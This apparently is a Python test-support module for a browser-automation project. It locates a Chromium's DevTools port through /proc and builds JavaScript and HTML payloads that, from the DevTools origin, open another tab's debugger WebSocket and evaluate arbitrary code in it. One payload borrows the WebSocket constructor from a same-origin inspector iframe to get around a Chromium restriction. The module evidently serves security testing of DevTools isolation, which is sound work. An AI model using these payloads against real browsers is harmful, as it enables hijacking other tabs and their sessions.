"""What an attacker needs against a browser's DevTools endpoint: its port, and a script that
drives another browser over it from a page on that endpoint's own origin."""

from __future__ import annotations

import json
from pathlib import Path

from tests.support.real_engine import scan_browser_processes


def devtools_port(socket_dir: Path) -> int:
    """The DevTools port of the Chromium launched for `socket_dir` (from its profile dir)."""
    for proc in scan_browser_processes():
        if proc.kind != "chromium" or proc.state == "Z":
            continue
        try:
            raw = Path(f"/proc/{proc.pid}/environ").read_bytes()
        except OSError:
            continue
        if f"AGENT_BROWSER_SOCKET_DIR={socket_dir}".encode() not in raw.split(b"\0"):
            continue
        for arg in proc.argv:
            if arg.startswith("--user-data-dir="):
                active = Path(arg.split("=", 1)[1]) / "DevToolsActivePort"
                if active.is_file():
                    return int(active.read_text().split()[0])
    raise AssertionError(f"no Chromium with a DevTools port for {socket_dir}")


def drive_js(url_part: str, expression: str) -> str:
    """Page script that, on a DevTools origin, finds the tab whose URL holds `url_part` in
    `/json/list`, opens its DevTools WebSocket and evaluates `expression` there. It answers
    `no page`, `refused` or `timeout` when it gets nowhere, else the CDP reply (text)."""
    return f"""(async () => {{
  let pages;
  try {{ pages = await (await fetch('/json/list')).json(); }} catch (e) {{ return 'no list'; }}
  const page = pages.find(p => p.type === 'page' && p.url.includes({json.dumps(url_part)}));
  if (!page) return 'no page';
  return await new Promise(resolve => {{
    let ws;
    try {{ ws = new WebSocket(page.webSocketDebuggerUrl); }}
    catch (e) {{ resolve('refused'); return; }}
    ws.onopen = () => ws.send(JSON.stringify({{id: 1, method: 'Runtime.evaluate',
      params: {{expression: {json.dumps(expression)}, returnByValue: true}}}}));
    ws.onmessage = m => {{ resolve(String(m.data)); ws.close(); }};
    ws.onerror = () => resolve('refused');
    setTimeout(() => resolve('timeout'), 5000);
  }});
}})()"""


def drive_page(url_part: str, expression: str) -> str:
    """A page (for a route's `--body`) that does what `drive_js` does by itself and writes the
    reply into the page. A document a route answered with is refused a DevTools WebSocket of
    its own (Chromium 156, measured), so it borrows the constructor of a same-origin frame
    that the DevTools server itself served (its front end), which is not."""
    return f"""<body><pre id="out">waiting</pre><script>
const frame = document.createElement('iframe');
frame.src = '/devtools/inspector.html';
frame.onload = async () => {{
  const out = document.getElementById('out');
  try {{
    const pages = await (await fetch('/json/list')).json();
    const page = pages.find(p => p.type === 'page' && p.url.includes({json.dumps(url_part)}));
    if (!page) {{ out.textContent = 'no page'; return; }}
    const ws = new frame.contentWindow.WebSocket(page.webSocketDebuggerUrl);
    ws.onopen = () => ws.send(JSON.stringify({{id: 1, method: 'Runtime.evaluate',
      params: {{expression: {json.dumps(expression)}, returnByValue: true}}}}));
    ws.onmessage = m => {{ out.textContent = String(m.data); ws.close(); }};
    ws.onerror = () => {{ out.textContent = 'refused'; }};
  }} catch (e) {{ out.textContent = 'error ' + e; }}
}};
document.body.append(frame);
</script></body>"""
